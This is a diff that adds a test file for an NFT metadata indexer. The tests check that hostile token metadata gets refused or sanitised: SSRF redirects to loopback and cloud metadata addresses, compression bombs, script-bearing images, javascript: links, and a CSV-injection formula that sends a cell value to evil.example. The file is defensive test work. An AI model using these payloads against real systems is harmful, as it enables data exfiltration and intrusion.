@@ -1,0 +1,165 @@
+import { mkdtemp, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { createDatabase } from "../../../runtime/database/database.ts";
+import { type HostileToken, hostileTokens } from "../../../runtime/demo/chapters/hostile-tokens.ts";
+import { readMetadataStatus } from "../../../runtime/domains/nft/metadata/status-queries.ts";
+import { useApp } from "../../support/app.ts";
+import { commandLineIn } from "../../support/commands/command-line.ts";
+import { parseCsv } from "../../support/csv.ts";
+import { createCaller } from "../caller.ts";
+
+const app = await useApp();
+const call = createCaller(app.url, app.key);
+const collection = app.cast.hostileCollection ?? "";
+
+interface Data {
+  readonly token_id: string;
+  readonly external_data: {
+    readonly name: string | null;
+    readonly description: string | null;
+    readonly image: string | null;
+    readonly animation_url: string | null;
+    readonly external_url: string | null;
+    readonly attributes: readonly { readonly trait_type: string | null; readonly value: string | null }[] | null;
+  } | null;
+  readonly metadata_refusal: string | null;
+  readonly asset_cached: boolean;
+}
+
+const read = async (): Promise<(HostileToken & Data)[]> => {
+  const { body, text } = await call(`/v1/demo/nft/${collection}/metadata/?page-size=1000`);
+  const { data } = body as { readonly data: { readonly items: readonly { readonly nft_data: Data }[] } | null };
+  if (data === null) throw new Error(text);
+  return data.items.map(({ nft_data: own }) => ({ ...(hostileTokens[Number(own.token_id) - 1] as HostileToken), ...own }));
+};
+const tokens = await read();
+const of = (kind: string) => tokens.find((token) => token.kind === kind);
+
+/** What has no document at all, with what the reason has to name. */
+const refused: readonly (readonly [kind: string, reason: RegExp])[] = [
+  ["huge", /too large/],
+  ["slow", /within 3000 ms/],
+  ["redirect-to-loopback", /http/],
+  ["redirect-to-link-local", /http|169\.254/],
+  ["redirect-loop", /redirect/],
+  ["compressed-bomb", /gzip/],
+  ["deeply-nested", /deep|large/],
+  ["page", /text\/html/],
+  ["broken", /500/],
+  ["missing", /404/],
+  ["path-out-of-the-folder", /path|folder|ipfs/i],
+  ["link-local", /http/],
+  ["loopback", /address/],
+  ["loopback-by-name", /local/],
+  ["loopback-as-number", /http/],
+  ["loopback-in-ipv6", /http/],
+  ["file", /file/],
+  ["page-as-document", /text\/html/],
+  ["invalid-base64", /base64/],
+  ["cut-off", /JSON/],
+  ["no-object", /no object/],
+  ["empty", /./],
+  ["long", /longer/],
+  ["reverting", /./],
+  ["endless", /./],
+  ["no-text", /./],
+];
+
+/** What has a document that is told without what could harm. */
+const leftOut: readonly (readonly [kind: string, reason: RegExp])[] = [
+  ["many-attributes", /attributes/],
+  ["script-in-picture", /image/],
+  ["script-in-plain-picture", /image/],
+  ["javascript-links", /image.*animation_url.*external_url/],
+];
+
+describe("tokens whose metadata mean harm", () => {
+  it("are all of the story's, and each is read or refused", () => {
+    expect(tokens.map(({ token_id: id }) => Number(id))).toEqual(hostileTokens.map((_, index) => index + 1));
+    expect(tokens.filter((token) => token.external_data === null && token.metadata_refusal === null)).toEqual([]);
+  });
+
+  it.each(refused)("%s is refused with a reason that is shown", (kind, reason) => {
+    const token = of(kind);
+    expect(token?.external_data, token?.metadata_refusal ?? "").toBeNull();
+    expect(token?.asset_cached).toBe(false);
+    expect(token?.metadata_refusal).toMatch(reason);
+    // Nothing of the operator's machine: neither paths nor the ports of the gateway.
+    expect(token?.metadata_refusal).not.toMatch(/node_modules|\.ts\b|private\.json|latest\/meta-data|etc\/passwd/);
+  });
+
+  it.each(leftOut)("%s is told without what could harm, and says what was left out", (kind, reason) => {
+    const token = of(kind);
+    expect(token?.external_data).not.toBeNull();
+    expect(token?.metadata_refusal).toMatch(reason);
+    expect(JSON.stringify(token?.external_data)).not.toMatch(/<script|javascript:|onload|foreignObject|text\/html/i);
+  });
+
+  it("leave every sheep between them served, without a reason", () => {
+    const flock = tokens.filter(({ kind }) => kind === "sheep");
+    expect(flock.length).toBeGreaterThan(10);
+    flock.forEach((sheep, index) => {
+      expect(sheep.external_data?.name).toBe(`Sheep ${index + 1}`);
+      expect(sheep.external_data?.attributes).toEqual([{ trait_type: "Wool", value: ["Thick", "Thin"][(index + 1) % 2] }]);
+      expect([sheep.asset_cached, sheep.metadata_refusal]).toEqual([true, null]);
+    });
+  });
+
+  it("have texts that neither a terminal nor a database stumbles over", () => {
+    for (const { external_data: data, kind } of tokens) {
+      const texts = [data?.name, data?.description, ...(data?.attributes ?? []).flatMap(({ trait_type, value }) => [trait_type, value])];
+      // Control characters, marks that turn the direction of text, halves of characters.
+      for (const text of texts) expect(text ?? "", kind).not.toMatch(/(?![\n\t])\p{Cc}|\p{Bidi_Control}|\p{Surrogate}/u);
+    }
+    const names = of("names-of-other-types")?.external_data;
+    expect([names?.image, names?.external_url, names?.animation_url]).toEqual([null, null, null]);
+    const absurd = of("absurd-attributes")?.external_data?.attributes;
+    expect(absurd).toContainEqual({ trait_type: "__proto__", value: "constructor" });
+    expect(absurd).toContainEqual({ trait_type: "Number", value: "123456789012345678901234567890" });
+  });
+
+  it("are told as text in a table, and not as a formula", async () => {
+    expect(of("formula")?.external_data?.name).toBe('=HYPERLINK("https://evil.example/?"&A1,"Click")');
+    const { text } = await call(`/v1/demo/nft/${collection}/metadata/?page-size=1000&format=csv`);
+    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
+    expect(
+      parseCsv(text)
+        .flat()
+        .filter((cell) => /^\s*[=+@-]/.test(cell)),
+    ).toEqual([]);
+  });
+
+  it("brought nobody to the address on this machine that they lead to", async () => {
+    expect(await (await fetch(app.trapUrl)).text()).toBe("0");
+  });
+
+  it("are counted with their reasons by ashlar nfts status", async () => {
+    const database = createDatabase({ url: app.databaseUrl, poolSize: 1, statementTimeoutMilliseconds: 0, applicationName: "ashlar-test" });
+    try {
+      const collections = await readMetadataStatus(database, 31337);
+      const own = collections.find(({ token }) => token === collection);
+      const without = tokens.filter(({ external_data: data }) => data === null);
+      expect([own?.waiting, own?.read, own?.refused]).toEqual([0, tokens.length - without.length, without.length]);
+      const counts = new Map<string, number>();
+      for (const { metadata_refusal: reason } of without) counts.set(reason ?? "", (counts.get(reason ?? "") ?? 0) + 1);
+      expect(new Map(own?.refusals.map(({ reason, tokens: count }) => [reason, count]))).toEqual(
+        new Map([...counts].map(([reason, count]) => [reason.slice(0, 200), count])),
+      );
+    } finally {
+      await database.close();
+    }
+    const folder = await mkdtemp(join(tmpdir(), "ashlar-status-"));
+    try {
+      await writeFile(join(folder, "ashlar.yaml"), "chains: [{ name: demo, id: 31337 }]\n");
+      const [code, said] = await commandLineIn(() => ({ folder, url: app.databaseUrl })).outcome(["nfts", "status"]);
+      expect(code, said).toBe(0);
+      const refusals = tokens.filter(({ external_data: data }) => data === null).length;
+      expect(said).toMatch(new RegExp(`${collection}  0 wait .*${refusals} refused`));
+      expect(said).toContain("refused: ");
+    } finally {
+      await rm(folder, { recursive: true, force: true });
+    }
+  });
+});
